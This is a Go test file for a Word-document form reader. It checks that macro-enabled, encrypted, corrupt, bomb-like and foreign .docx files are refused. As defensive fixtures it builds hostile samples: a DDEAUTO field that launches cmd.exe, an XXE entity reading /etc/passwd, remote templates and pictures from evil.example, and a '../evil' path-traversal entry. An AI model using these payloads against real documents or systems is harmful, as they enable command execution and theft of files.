package word_test

import (
	"archive/zip"
	"bytes"
	"errors"
	"strings"
	"testing"

	"github.com/pepost/pepost/internal/form"
	"github.com/pepost/pepost/internal/word"
	"github.com/pepost/pepost/internal/word/opc"
)

// rezipped is a form with parts changed, added (by new names) or, where the
// content is nil, taken out, written by the standard library.
func rezipped(t testing.TB, data []byte, changes map[string][]byte) []byte {
	t.Helper()
	reader, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	archive := zip.NewWriter(&out)
	add := func(name string, content []byte) {
		w, err := archive.Create(name)
		if err == nil {
			_, err = w.Write(content)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	for _, file := range reader.File {
		if _, changed := changes[file.Name]; !changed {
			add(file.Name, []byte(part(t, data, file.Name)))
		}
	}
	for name, content := range changes {
		if content != nil {
			add(name, content)
		}
	}
	if err := archive.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// related adds a relationship to the document part.
func related(t testing.TB, data []byte, relationship string) []byte {
	t.Helper()
	const rels = "word/_rels/document.xml.rels"
	return rezipped(t, data, map[string][]byte{
		rels: []byte(strings.Replace(part(t, data, rels), "</Relationships>", relationship+"</Relationships>", 1)),
	})
}

// inBody puts markup at the beginning of the document's body.
func inBody(t testing.TB, data []byte, markup string) []byte {
	t.Helper()
	return edited(t, data, mainPart, func(xml string) string { return strings.Replace(xml, "<w:body>", "<w:body>"+markup, 1) })
}

func TestDangerousAndForeignFilesAreRefused(t *testing.T) {
	data := small(t)
	types := part(t, data, "[Content_Types].xml")
	const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	cases := []struct {
		name string
		data []byte
		code word.RefusalCode
	}{
		{"nothing", nil, word.NotDocx},
		{"a text", []byte("Dear Sirs"), word.NotDocx},
		{"a PDF", []byte("%PDF-1.7\n"), word.NotDocx},
		{"rich text", []byte(`{\rtf1 hello}`), word.NotDocx},
		{"a Word 97 file", append([]byte("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"), make([]byte, 600)...), word.NotDocx},
		{"an encrypted file", append([]byte("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"), []byte("E\x00n\x00c\x00r\x00y\x00p\x00t\x00e\x00d\x00P\x00a\x00c\x00k\x00a\x00g\x00e\x00")...), word.Encrypted},
		{"a plain archive", rezipped(t, data, map[string][]byte{"[Content_Types].xml": nil}), word.NotDocx},
		{"a workbook", rezipped(t, data, map[string][]byte{"[Content_Types].xml": []byte(strings.Replace(types, "wordprocessingml.document.main", "spreadsheetml.sheet.main", 1))}), word.NotDocx},
		{"a file cut short", data[:len(data)-40], word.Corrupt},
		{"a file with a flipped byte", flipped(data), word.Corrupt},
		{"no document part", rezipped(t, data, map[string][]byte{mainPart: nil}), word.Corrupt},
		{"broken markup", edited(t, data, mainPart, func(xml string) string { return strings.Replace(xml, "</w:body>", "", 1) }), word.Corrupt},
		{"a macro-enabled document", rezipped(t, data, map[string][]byte{"[Content_Types].xml": []byte(strings.Replace(types, "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml", 1))}), word.Macro},
		{"a macro under its usual name", rezipped(t, data, map[string][]byte{"word/vbaProject.bin": []byte("x")}), word.Macro},
		{"a macro under another name", related(t, data, `<Relationship Id="r1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="innocent.bin"/>`), word.Macro},
		{"a template from elsewhere", related(t, data, `<Relationship Id="r1" Type="`+office+`attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`), word.ExternalContent},
		{"a picture from elsewhere", related(t, data, `<Relationship Id="r1" Type="`+office+`image" Target="//evil.example/p.png" TargetMode="external"/>`), word.ExternalContent},
		{"a field that includes a picture", inBody(t, data, `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://evil.example/"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`), word.ExternalContent},
		{"a field that runs a command", inBody(t, data, `<w:p><w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe"/></w:p>`), word.ExternalContent},
		{"an embedded file", rezipped(t, data, map[string][]byte{"word/embeddings/oleObject1.bin": []byte("x")}), word.EmbeddedObject},
		{"an embedded object", inBody(t, data, `<w:p><w:r><w:object/></w:r></w:p>`), word.EmbeddedObject},
		{"another document inside", related(t, data, `<Relationship Id="r1" Type="`+office+`aFChunk" Target="chunk.html"/>`), word.EmbeddedObject},
		{"an ActiveX control", rezipped(t, data, map[string][]byte{"word/activeX/activeX1.xml": []byte("<x/>")}), word.EmbeddedObject},
		{"a document type", edited(t, data, mainPart, doctype), word.Corrupt},
		{"an entity that is not declared", edited(t, data, mainPart, func(xml string) string { return strings.Replace(xml, "<w:t ", "&evil;<w:t ", 1) }), word.Corrupt},
		{"a bomb", rezipped(t, data, map[string][]byte{"word/media/zeros": make([]byte, 40<<20)}), word.Bomb},
		{"too many parts", rezipped(t, data, many(2100)), word.Bomb},
		{"nested too deeply", inBody(t, data, strings.Repeat("<w:ins>", 400)+strings.Repeat("</w:ins>", 400)), word.Bomb},
		{"too many elements", inBody(t, data, strings.Repeat("<w:p/>", 300_001)), word.Bomb},
		{"a path out of the archive", rezipped(t, data, map[string][]byte{"../evil": []byte("x")}), word.Corrupt},
		{"a sound document that is none of ours", foreign(t, data), word.UnknownForm},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := word.Read(c.data, known{smallForm()})
			var refused *word.RefusedError
			if !errors.As(err, &refused) || refused.Code != c.code {
				t.Errorf("got %v, want %s", err, c.code)
			}
			if err != nil && strings.Contains(err.Error(), "evil") {
				t.Errorf("the reason repeats the file: %v", err)
			}
			if _, err := word.Fill(c.data, form.Values{}); err == nil && c.code != word.EmbeddedObject && c.code != word.ExternalContent {
				t.Error("the file can be filled in")
			}
		})
	}
}

func doctype(xml string) string {
	const declaration = `<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>`
	at := strings.Index(xml, "<w:document")
	return xml[:at] + declaration + xml[at:]
}

// flipped is the file with one bit of a packed part changed.
func flipped(data []byte) []byte {
	out := bytes.Clone(data)
	out[bytes.Index(out, []byte(mainPart))+len(mainPart)+200] ^= 4
	return out
}

func many(count int) map[string][]byte {
	parts := map[string][]byte{}
	for i := range count {
		parts["word/media/"+strings.Repeat("x", i%7)+string(rune('a'+i%26))+strings.Repeat("y", i/26)] = []byte("x")
	}
	return parts
}

// foreign is the file with every sign of whose it is taken out.
func foreign(t testing.TB, data []byte) []byte {
	t.Helper()
	none := []byte("<x/>")
	return rezipped(t, data, map[string][]byte{storePart: none, "docProps/custom.xml": none, "word/footer1.xml": []byte(`<w:ftr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>`)})
}

func TestHyperlinksAreHarmless(t *testing.T) {
	data := related(t, small(t), `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://school.example/" TargetMode="External"/>`)
	mustRead(t, data, known{smallForm()})
}

func TestEveryRefusalCodeIsOfTheContract(t *testing.T) {
	want := []word.RefusalCode{"not_docx", "macro", "encrypted", "bomb", "external_content", "embedded_object", "corrupt", "unknown_form"}
	got := opc.RefusalCodes()
	if len(got) != len(want) {
		t.Fatalf("%v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("code %d is %s, want %s", i, got[i], want[i])
		}
	}
}

func FuzzRead(f *testing.F) {
	data := small(f)
	f.Add(data)
	f.Add(data[:len(data)/2])
	f.Add(withoutStore(f, data))
	f.Add([]byte("PK\x03\x04"))
	forms := known{smallForm()}
	f.Fuzz(func(t *testing.T, data []byte) {
		reading, err := word.Read(data, forms)
		var refused *word.RefusedError
		if err != nil && !errors.As(err, &refused) {
			t.Fatalf("not a refusal: %v", err)
		}
		if err == nil && (reading.Confidence < 0 || reading.Confidence > 1) {
			t.Fatalf("confidence %v", reading.Confidence)
		}
	})
}

// FuzzReadPart reaches past the archive: the bytes are the document part.
func FuzzReadPart(f *testing.F) {
	data := small(f)
	pack, err := opc.Open(data)
	if err != nil {
		f.Fatal(err)
	}
	f.Add([]byte(part(f, data, mainPart)))
	f.Add([]byte(`<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>`))
	forms := known{smallForm()}
	f.Fuzz(func(t *testing.T, xml []byte) {
		changed, err := pack.Changed(map[string][]byte{mainPart: xml})
		if err != nil {
			t.Fatal(err)
		}
		reading, err := word.Read(changed, forms)
		if err != nil {
			return
		}
		for _, key := range reading.Unreadable {
			if _, taken := reading.Values.Fields[key]; taken {
				t.Fatalf("%s is unreadable and has a value", key)
			}
		}
	})
}
